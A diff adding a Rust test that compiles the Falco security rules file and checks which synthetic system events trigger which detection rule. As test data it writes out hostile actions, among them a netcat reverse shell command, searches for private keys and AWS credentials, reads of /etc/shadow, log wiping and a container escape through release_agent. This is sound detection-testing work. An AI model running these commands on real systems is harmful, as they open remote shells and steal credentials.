@@ -1,0 +1,220 @@
+//! The stable rule file of the upstream project, compiled and evaluated: which events meet which of its rules, that usual
+//! events match none, and that remarkable ones match the right one.
+
+// A test may stop where something is wrong.
+#![allow(clippy::panic, clippy::unwrap_used)]
+
+#[path = "../examples/bench/event.rs"]
+mod event;
+
+use std::collections::BTreeMap;
+use std::env;
+use std::fs;
+use std::io::Write;
+use std::path::{Path, PathBuf};
+use std::sync::Arc;
+
+use event::{Event, Process, usual};
+use pinhole_rules::catalogue::Catalogue;
+use pinhole_rules::engine::{Matching, Options, Outcome, RuleSet, Scratch};
+use pinhole_rules::library;
+use pinhole_rules::source::Source;
+
+/// The file that `PINHOLE_FALCO_RULES` names, or one beside a directory that holds the checkout.
+fn path() -> Option<PathBuf> {
+    if let Some(named) = env::var_os("PINHOLE_FALCO_RULES") {
+        return Some(named.into());
+    }
+    Path::new(env!("CARGO_MANIFEST_DIR"))
+        .ancestors()
+        .map(|directory| directory.join("shared/falco-rules/falco_rules.yaml"))
+        .find(|file| file.is_file())
+}
+
+fn compiled() -> Option<(Catalogue, RuleSet)> {
+    let Some(path) = path() else {
+        // Past the capture of a test that passes: who runs it must see that it showed nothing.
+        let skipped = b"SKIPPED: no falco_rules.yaml is here; PINHOLE_FALCO_RULES names one\n";
+        std::io::stderr().write_all(skipped).unwrap();
+        return None;
+    };
+    let source = Source {
+        name: "falco_rules.yaml".to_owned(),
+        text: fs::read_to_string(&path).unwrap_or_else(|error| panic!("{}: {error}", path.display())),
+    };
+    let library = library::load(&[Arc::new(source)], &["syscall"]);
+    let catalogue = Catalogue::new(event::FIELDS, event::EVENTS);
+    let options = Options {
+        matching: Matching::All,
+        ..Options::default()
+    };
+    let (set, problems) = RuleSet::compile(&library.rules, &catalogue, &options);
+    let problems: Vec<_> = problems.iter().map(ToString::to_string).collect();
+    assert_eq!(problems, Vec::<String>::new());
+    Some((catalogue, set.unwrap()))
+}
+
+fn matches(catalogue: &Catalogue, set: &RuleSet, event: &Event) -> Vec<String> {
+    let mut matches = Vec::new();
+    let kind = catalogue.event(event.kind).unwrap();
+    set.evaluate(kind, event, &mut Scratch::default(), |outcome| match outcome {
+        Outcome::Match { rule, .. } => {
+            let message = rule.output.render(event);
+            assert!(message.unknown.is_empty() && !message.text.contains('%'), "{message:?}");
+            assert_eq!(message.fields["evt.type"], event.kind);
+            matches.push(rule.name.clone());
+        }
+        Outcome::Unknown { .. } => panic!("{outcome:?}"),
+    });
+    matches
+}
+
+#[test]
+fn events_meet_their_rules_only() {
+    let Some((catalogue, set)) = compiled() else { return };
+    assert_eq!(set.rules().len(), 25);
+    let met: BTreeMap<_, _> = catalogue
+        .events()
+        .map(|(kind, event)| (event.name, set.rules_of(kind).count()))
+        .filter(|(_, rules)| *rules > 0)
+        .collect();
+    let wanted = BTreeMap::from([
+        ("open", 5),
+        ("openat", 5),
+        ("openat2", 5),
+        ("execve", 11),
+        ("execveat", 11),
+        ("connect", 2),
+        ("ptrace", 2),
+        ("symlink", 1),
+        ("symlinkat", 1),
+        ("link", 1),
+        ("linkat", 1),
+        ("socket", 1),
+        ("dup", 1),
+        ("dup2", 1),
+        ("dup3", 1),
+        ("init_module", 1),
+        ("finit_module", 1),
+        ("sendto", 1),
+        ("sendmsg", 1),
+    ]);
+    assert_eq!(met, wanted);
+}
+
+#[test]
+fn usual_events_match_none() {
+    let Some((catalogue, set)) = compiled() else { return };
+    for event in usual() {
+        assert_eq!(matches(&catalogue, &set, &event), [""; 0], "{}", event.what);
+    }
+}
+
+/// An event, changed from one of the usual ones.
+fn changed(at: usize, change: impl FnOnce(&mut Event)) -> Event {
+    let mut event = usual().swap_remove(at);
+    change(&mut event);
+    event
+}
+
+#[test]
+fn remarkable_events_match_theirs() {
+    let Some((catalogue, set)) = compiled() else { return };
+    let open = |path| changed(0, move |event| event.path = path);
+    let run = |name, args| {
+        changed(4, move |event| {
+            event.line[0] = Process::new(name, name, args);
+        })
+    };
+    for (event, wanted) in [
+        (open("/etc/shadow"), vec!["Read sensitive file untrusted"]),
+        (open("/etc/pam.d/common-auth"), vec!["Read sensitive file untrusted"]),
+        // By a shell's child it is allowed.
+        (open("/etc/nginx/../../etc/passwd"), vec![]),
+        (
+            changed(3, |event| event.path = "/etc/nginx/../../etc/passwd"),
+            vec!["Directory traversal monitored file read"],
+        ),
+        (
+            changed(2, |event| {
+                event.path = "/var/log/syslog";
+                event.argument = "O_WRONLY|O_TRUNC";
+            }),
+            vec!["Clear Log Activities"],
+        ),
+        (
+            changed(2, |event| {
+                event.path = "/tmp/cgroup/release_agent";
+                event.capabilities = "CAP_DAC_OVERRIDE CAP_SYS_ADMIN";
+            }),
+            vec!["Detect release_agent File Container Escapes"],
+        ),
+        (
+            run("nc", "-e /bin/sh 10.0.0.1"),
+            vec!["Netcat Remote Code Execution in Container"],
+        ),
+        (
+            run("grep", "-r BEGIN PRIVATE /"),
+            vec!["Search Private Keys or Passwords"],
+        ),
+        (run("find", "/ -name .aws/credentials"), vec!["Find AWS Credentials"]),
+        (run("shred", "-u /tmp/x"), vec!["Remove Bulk Data from Disk"]),
+        (
+            changed(4, |event| event.line[0].exe = "/dev/shm/x"),
+            vec!["Execution from /dev/shm"],
+        ),
+        (
+            changed(5, |event| {
+                event.terminal = 34816;
+                event.line.drain(1..3);
+            }),
+            vec!["Terminal shell in container"],
+        ),
+        (
+            changed(5, |event| event.line[1] = Process::new("nginx", "nginx", "")),
+            vec!["Run shell untrusted"],
+        ),
+        (
+            changed(8, |event| {
+                event.line[0] = Process::new("ssh", "ssh", "-p 443 example.org");
+            }),
+            vec!["Disallowed SSH Connection Non Standard Port"],
+        ),
+        (
+            changed(8, |event| {
+                event.line[0] = Process::new("ssh", "ssh", "-p 443 10.0.0.1");
+                event.server.0 = [10, 0, 0, 1].into();
+            }),
+            vec![],
+        ),
+        (
+            changed(0, |event| {
+                event.kind = "ptrace";
+                event.argument = "PTRACE_ATTACH";
+            }),
+            vec!["PTRACE attached to process"],
+        ),
+        (
+            changed(0, |event| {
+                event.kind = "symlinkat";
+                event.argument = "/etc";
+            }),
+            vec!["Create Symlink Over Sensitive Files"],
+        ),
+        (
+            changed(4, |event| {
+                event.kind = "finit_module";
+                event.capabilities = "CAP_SYS_MODULE";
+            }),
+            vec!["Linux Kernel Module Injection Detected"],
+        ),
+    ] {
+        assert_eq!(
+            matches(&catalogue, &set, &event),
+            wanted,
+            "{} {}",
+            event.kind,
+            event.path
+        );
+    }
+}
